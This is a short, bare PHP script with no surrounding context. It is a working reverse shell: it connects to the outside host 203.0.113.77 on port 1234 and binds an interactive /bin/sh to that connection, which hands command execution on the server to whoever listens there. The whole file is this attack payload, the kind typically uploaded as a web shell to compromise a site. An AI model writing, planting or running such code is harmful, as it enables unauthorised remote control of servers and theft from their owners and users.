<?php
$sock = fsockopen("203.0.113.77", 1234);
$proc = proc_open("/bin/sh -i", array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
